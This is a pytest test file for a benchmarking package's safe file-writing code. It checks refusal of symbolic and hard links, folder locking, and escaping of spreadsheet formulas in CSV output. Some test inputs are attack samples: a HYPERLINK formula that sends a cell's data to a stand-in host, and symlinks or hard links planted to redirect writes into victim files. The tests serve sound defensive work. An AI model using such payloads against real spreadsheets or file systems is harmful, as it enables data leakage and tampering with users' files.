"""Safe output writes (sklearn_bench._io): no symlink followed, CSV text stays text."""

import contextlib
import os

import numpy as np
import pandas as pd
import pytest

from sklearn_bench._io import (
    Folder,
    FolderLockedError,
    UnsafePathError,
    escape_cell,
    escape_frame,
    folder_lock,
    held,
    unescape_cell,
    unescape_frame,
    write_csv,
    write_text,
)

from ._report import report


@contextlib.contextmanager
def _below(root):
    """Writes below ``root`` go through a handle on it (as a command's do)."""
    with Folder.open(root) as folder, held(folder):
        yield


def test_dangling_symlink_at_output_name_is_refused(tmp_path):
    """H: a dangling link at the output name (Path.exists() is False) is refused,
    and nothing is written where it points."""
    target = tmp_path / "elsewhere" / "zz.pth"
    target.parent.mkdir()
    os.symlink(target, tmp_path / "out.csv")
    with pytest.raises(UnsafePathError, match="symbolic link"):
        write_text(tmp_path / "out.csv", "import os")
    assert not target.exists()


def test_symlinked_folder_below_root_is_refused(tmp_path):
    """H: a link at any folder between the output root and the file is refused."""
    victim = tmp_path / "victim"
    victim.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(victim, out / "figures")
    with pytest.raises(UnsafePathError, match="the folder"), _below(out):
        write_text(out / "figures" / "a.svg", "<svg/>")
    assert list(victim.iterdir()) == []


def test_root_reached_through_a_link_is_allowed(tmp_path):
    """H: the output root itself may be a link the user made; below it is checked."""
    real = tmp_path / "real"
    real.mkdir()
    os.symlink(real, tmp_path / "alias")
    with _below(tmp_path / "alias"):
        write_text(tmp_path / "alias" / "a.txt", "x")
    assert (real / "a.txt").read_text() == "x"


def test_plain_write_overwrites_regular_file(tmp_path):
    """H: an existing regular file is overwritten as before."""
    (tmp_path / "a.txt").write_text("old")
    with _below(tmp_path):
        write_text(tmp_path / "a.txt", "new")
    assert (tmp_path / "a.txt").read_text() == "new"


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x/?"&A1,"click")', "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'q"],
)
def test_formula_cells_escaped_and_read_back(name):
    """H: OWASP's leading characters get an apostrophe; unescape gives the name back."""
    assert escape_cell(name) == "'" + name
    assert unescape_cell(escape_cell(name)) == name


def test_plain_names_and_numbers_untouched():
    """H: ordinary names, numbers (negative too) and NaN are written unchanged."""
    assert escape_cell("logreg") == "logreg"
    assert escape_cell(-0.5) == -0.5
    assert unescape_cell("it's") == "it's"


def test_csv_round_trip(tmp_path):
    """H: a frame with formula-like names in cells, columns and index survives a
    write_csv / read_csv / unescape_frame round trip; numeric columns stay numbers."""
    frame = pd.DataFrame(
        {"learner": ["=1+1", "ok", "-neg"], "=score": [-0.5, 0.25, np.nan]},
        index=pd.Index(["@a", "b", "c"], name="dataset"),
    )
    write_csv(frame, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text()
    assert "'=1+1" in text and "-0.5" in text and "'@a" in text
    back = unescape_frame(pd.read_csv(tmp_path / "t.csv", index_col=0))
    pd.testing.assert_frame_equal(back, frame)
    assert escape_frame(frame)["'=score"].tolist()[:2] == [-0.5, 0.25]


def _study(names=("lr", "rf", "nb"), datasets=("d1", "d2", "d3", "d4")):
    rng = np.random.default_rng(0)
    rows = [
        {"dataset": d, "learner": m, "value": float(rng.uniform(0.1, 0.3))}
        for d in datasets
        for m in names
    ]
    return pd.DataFrame(rows)


def test_saved_results_keep_formula_names_as_text(tmp_path):
    """H: BenchmarkResult.save escapes formula-like names in its CSVs (a
    spreadsheet shows text, not a live formula) and load reads the same names."""
    from sklearn_bench import BenchmarkResult

    names = ('=HYPERLINK("http://x/?"&A1,"click")', "+sum", "plain")
    result = BenchmarkResult.from_frame(
        _study(names),
        dataset="dataset",
        learner="learner",
        value="value",
        greater_is_better=False,
    )
    result.save(tmp_path / "res")
    text = (tmp_path / "res" / "scores.csv").read_text()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    back = BenchmarkResult.load(tmp_path / "res")
    assert sorted(back.learners) == sorted(names)
    pd.testing.assert_frame_equal(back.scores, result.scores, check_dtype=False)


def test_save_refuses_a_symlinked_results_folder_member(tmp_path):
    """H: a link planted inside the folder a result is saved into is refused and
    nothing is written where it points."""
    from sklearn_bench import BenchmarkResult

    victim = tmp_path / "victim"
    victim.mkdir()
    (tmp_path / "res").mkdir()
    os.symlink(victim / "scores.csv", tmp_path / "res" / "scores.csv")
    result = BenchmarkResult.from_frame(
        _study(),
        dataset="dataset",
        learner="learner",
        value="value",
        greater_is_better=False,
    )
    with pytest.raises(UnsafePathError):
        result.save(tmp_path / "res")
    assert list(victim.iterdir()) == []


def test_leaderboard_csv_names_read_exactly(tmp_path, capsys):
    """H: the leaderboard command reads learner and data-set names as written:
    "NA", "null", "None", "nan", "N/A" stay five learners and data sets "01" and
    "1" stay two; the CSV it writes escapes a formula-like learner name."""
    from sklearn_bench.cli import main

    learners = ("NA", "null", "None", "nan", "N/A", "=1+1")
    frame = _study(learners, datasets=("01", "1", "2", "3", "4", "5"))
    frame.to_csv(tmp_path / "lb.csv", index=False)
    code = main(["leaderboard", str(tmp_path / "lb.csv"), "--lower-is-better"])
    assert code == 0, capsys.readouterr()
    board = pd.read_csv(
        tmp_path / "lb-leaderboard.csv", index_col=0, dtype=str, keep_default_na=False
    )
    assert sorted(board.index) == sorted(["NA", "null", "None", "nan", "N/A", "'=1+1"])
    assert "n_datasets" not in board.columns or set(board["n_datasets"]) == {"6"}


def test_report_refuses_symlinked_figures_folder(tmp_path):
    """H: write_report refuses an output folder whose figures/ is a link, and
    writes nothing into the linked folder."""
    pytest.importorskip("matplotlib")
    from sklearn_bench import BenchmarkResult

    victim = tmp_path / "victim"
    victim.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(victim, out / "figures")
    result = BenchmarkResult.from_frame(
        _study(),
        dataset="dataset",
        learner="learner",
        value="value",
        greater_is_better=False,
    )
    with pytest.raises(UnsafePathError):
        report(result, out)
    assert list(victim.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("alpha", "0.05"),
        ("confidence_level", [0.95]),
        ("delta", "0.01"),
        ("alpha", True),
    ],
)
def test_report_refuses_a_stored_setting_of_the_wrong_type(name, value):
    """H: a stored analysis setting of the wrong type (``alpha = "0.05"``) is a
    usage error (exit 2) naming the setting, not a TypeError (exit 1)."""
    import argparse

    from sklearn_bench import BenchmarkResult
    from sklearn_bench.cli._main import _report_settings, _UsageError

    result = BenchmarkResult.from_frame(
        _study(),
        dataset="dataset",
        learner="learner",
        value="value",
        greater_is_better=False,
    )
    result.info["analysis"] = {"settings": {name: value}}
    with pytest.raises(_UsageError, match=name):
        _report_settings(result, argparse.Namespace())


def test_folder_lock_refuses_a_second_holder_and_removes_its_file(tmp_path):
    """H: a second folder_lock on a held folder raises FolderLockedError naming
    the lock file and the holder's pid; the file is gone once released, and
    the lock can be taken again."""
    with folder_lock(tmp_path) as lock:
        assert f"pid {os.getpid()}" in lock.read_text()
        with pytest.raises(FolderLockedError, match=r"\.sklearn_bench\.lock"):
            with folder_lock(tmp_path):
                pass
    assert not (tmp_path / ".sklearn_bench.lock").exists()
    with folder_lock(tmp_path):
        pass


def test_folder_lock_refuses_a_link_at_its_name(tmp_path):
    """H: a symbolic link planted at the lock's name is refused (nothing is
    written where it points)."""
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    os.symlink(victim, tmp_path / ".sklearn_bench.lock")
    with pytest.raises(UnsafePathError):
        with folder_lock(tmp_path):
            pass
    assert victim.read_text() == "keep"


def test_a_killed_holder_leaves_no_lock(tmp_path):
    """H: the lock of a process killed with SIGKILL while holding it is free at
    once (the kernel releases flock): no stale lock to clear by hand."""
    import signal
    import subprocess
    import sys
    import time

    pytest.importorskip("fcntl")
    code = (
        "import sys, time\n"
        "from sklearn_bench._io import folder_lock\n"
        f"with folder_lock({str(tmp_path)!r}):\n"
        "    print('held', flush=True)\n"
        "    time.sleep(60)\n"
    )
    child = subprocess.Popen(
        [sys.executable, "-c", code], stdout=subprocess.PIPE, text=True
    )
    try:
        assert child.stdout.readline().strip() == "held"
        with pytest.raises(FolderLockedError):
            with folder_lock(tmp_path):
                pass
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    deadline = time.monotonic() + 10
    while True:
        try:
            with folder_lock(tmp_path):
                break
        except FolderLockedError:
            assert time.monotonic() < deadline
            time.sleep(0.05)


# -- issue 38: hard links, a folder held open, a carriage return -------------------


def test_a_hard_linked_file_is_never_written_through(tmp_path, outside):
    """H: an output name that is a hard link to a file outside the output
    folder (two names, one file) is refused, below a held folder or not, and
    the outside file keeps its bytes (on 17a1a60 it was truncated and
    rewritten)."""
    out = tmp_path / "out"
    out.mkdir()
    os.link(outside.path / "notes.txt", out / "scores.csv")
    with pytest.raises(UnsafePathError, match="hard link"):
        write_text(out / "scores.csv", "x")
    with pytest.raises(UnsafePathError, match="hard link"), _below(out):
        write_text(out / "scores.csv", "x")
    assert outside.unchanged()


@pytest.mark.parametrize("kind", ["hard link", "folder", "link"])
def test_the_lock_is_refused_when_it_is_not_a_file_of_its_own(tmp_path, outside, kind):
    """H: a lock name that is a hard link to a file outside, a folder, or a
    symbolic link raises UnsafePathError naming it (exit 2 in the CLI; on
    17a1a60 the hard link's target was truncated and stamped with the pid, a
    folder was an IsADirectoryError), and nothing outside changes."""
    lock = tmp_path / ".sklearn_bench.lock"
    if kind == "hard link":
        os.link(outside.path / "notes.txt", lock)
    elif kind == "folder":
        lock.mkdir()
    else:
        os.symlink(outside.path / "notes.txt", lock)
    with pytest.raises(UnsafePathError, match=kind.split()[-1]):
        with folder_lock(tmp_path):
            pass
    assert outside.unchanged()


def test_writes_below_a_held_folder_go_to_it_when_it_is_swapped(tmp_path, outside):
    """H: a folder held open (a staging folder) that is renamed, and replaced by
    a link to a folder of the user's, still receives every write made through
    its old path, new files only (O_EXCL): the user's folder is unchanged."""
    from sklearn_bench._io import make_folder

    stage = tmp_path / "stage"
    with Folder.open(stage, create=True) as folder, held(folder, new=True):
        write_text(stage / "a.txt", "before")
        os.rename(stage, tmp_path / "moved")
        os.symlink(outside.path, stage)
        make_folder(stage / "sub")
        write_text(stage / "sub" / "thesis.tex", "after")
        write_text(stage / "methods.md", "after")
        with pytest.raises(UnsafePathError, match="appeared"):
            write_text(stage / "a.txt", "twice")
    assert outside.unchanged()
    assert (tmp_path / "moved" / "methods.md").read_text() == "after"
    assert (tmp_path / "moved" / "sub" / "thesis.tex").read_text() == "after"


def test_a_carriage_return_in_a_name_reads_back(tmp_path):
    """H: a learner named with a bare carriage return is quoted in the CSV that
    save writes, so load reads back the same names and scores (on 17a1a60 the
    CR split the row and load refused scores.csv)."""
    from sklearn_bench import BenchmarkResult

    names = ("a\rb", "c\r\nd", "plain")
    result = BenchmarkResult.from_frame(
        _study(names),
        dataset="dataset",
        learner="learner",
        value="value",
        greater_is_better=False,
    )
    result.save(tmp_path / "res")
    back = BenchmarkResult.load(tmp_path / "res")
    assert sorted(back.learners) == sorted(names)
    pd.testing.assert_frame_equal(back.scores, result.scores, check_dtype=False)
    frame = pd.DataFrame({"x\ry": ["p\rq", "r"]}, index=pd.Index(["i\r", "j"]))
    write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", index_col=0)
    pd.testing.assert_frame_equal(back, frame)
